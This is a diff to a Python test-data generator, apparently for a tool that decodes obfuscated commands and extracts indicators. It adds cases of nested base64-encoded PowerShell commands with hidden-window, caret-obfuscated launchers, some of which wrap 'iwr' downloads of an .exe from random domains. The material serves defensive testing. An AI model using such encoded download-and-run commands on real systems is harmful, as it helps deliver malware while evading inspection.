@@ -197,8 +197,14 @@ def g_url(spec, r):
 
 def g_ioc(spec, r):
     while True:
-        k = r.randrange(11)
-        if k == 9:
+        k = r.randrange(13)
+        if k in (11, 12):
+            # a bare file name with an extension that is not an executable's (no result of its own), alone or next to a
+            # Windows path with the same extension
+            ext = r.choice([b".txt", b".pdf", b".xlsx", b".doc", b".ps1", b".js"])
+            bare = netgen.label(r, 3, 9).replace(b"-", b"_") + ext
+            ind = bare if k == 11 else b"C:\\Users\\Public\\" + netgen.label(r, 3, 9).replace(b"-", b"_") + ext + b" and " + bare
+        elif k == 9:
             ind = netgen.odd_ipv4(r)
         elif k == 10:
             odd = netgen.odd_ipv4(r)
@@ -472,9 +478,49 @@ def g_unicase(spec, r):
         yield "unicase", r.choice([b"", b"x "]) + letters + mid + kw + tail, None
 
 
+def g_psstack(spec, r):
+    """Encoded PowerShell commands whose decoded text is again an encoded PowerShell command (1-4 deep), at depth limits
+    below, at and above the number of layers."""
+    while True:
+        cur = r.choice([b"iwr http://" + netgen.domain(r) + b"/a.exe", b"echo bee", b"ping " + netgen.ipv4(r), b"calc.exe"])
+        n = r.randint(1, 4)
+        for _ in range(n):
+            head = r.choice([b"powershell -nop -enc ", b"cmd /c powershell -e ", b"pwsh /enc ", b"p^owershell -nop -ec ", b"powershell.exe -w hidden -EncodedCommand "])
+            cur = head + base64.b64encode(cur.decode("latin-1").encode("utf-16-le"))
+        yield "psstack", r.choice([b"", b"x ", b"run: "]) + cur, r.choice([None, 1, 1, 2, 2, 3, 4])
+
+
+def g_codec(spec, r):
+    """The structured single-expression cases of C13-C15 (every spelling, boundary and size class their generators know),
+    as plain inputs for the properties that judge something else (totality, tree shape)."""
+    from vf.gens import codecgen
+    while True:
+        k = r.randrange(6)
+        if k == 0:
+            rec = codecgen.c13_case(r)
+        elif k == 1:
+            rec = codecgen.c14_case(r)
+        elif k == 2:
+            rec = codecgen.c15_case(r)
+        elif k == 3:
+            yield "codec", codecgen.c13_xor_case(r)[0], None
+            continue
+        elif k == 4:
+            yield "codec", codecgen.c14_chr_sequence(r)[2], None
+            continue
+        else:
+            a, b = codecgen.c14_case(r), codecgen.c15_case(r)
+            if a is None or b is None:
+                continue
+            yield "codec", a["data"] + b" ; " + b["data"], None
+            continue
+        if rec is not None:
+            yield "codec", rec["data"], r.choice([None, None, None, 1, 2])
+
+
 GENERATORS = {
     "skel": g_skel, "xor": g_xor, "cmd": g_cmd, "pe": g_pe, "xorbytes": g_xorbytes, "matryoshka": g_matryoshka,
-    "nesting": g_nesting, "seedmut": g_seedmut, "soup": g_soup, "large": g_large, "repeat": g_repeat, "url": g_url, "ioc": g_ioc, "layer": g_layer, "ctxdec": g_ctxdec, "nest": g_nest, "plainnest": g_plainnest, "repeatunit": g_repeatunit, "echo": g_echo, "expand": g_expand, "overlap": g_overlap, "twopaths": g_twopaths, "bom": g_bom, "unicase": g_unicase,
+    "nesting": g_nesting, "seedmut": g_seedmut, "soup": g_soup, "large": g_large, "repeat": g_repeat, "url": g_url, "ioc": g_ioc, "layer": g_layer, "ctxdec": g_ctxdec, "nest": g_nest, "plainnest": g_plainnest, "repeatunit": g_repeatunit, "echo": g_echo, "expand": g_expand, "overlap": g_overlap, "twopaths": g_twopaths, "bom": g_bom, "unicase": g_unicase, "codec": g_codec, "psstack": g_psstack,
 }
 
 
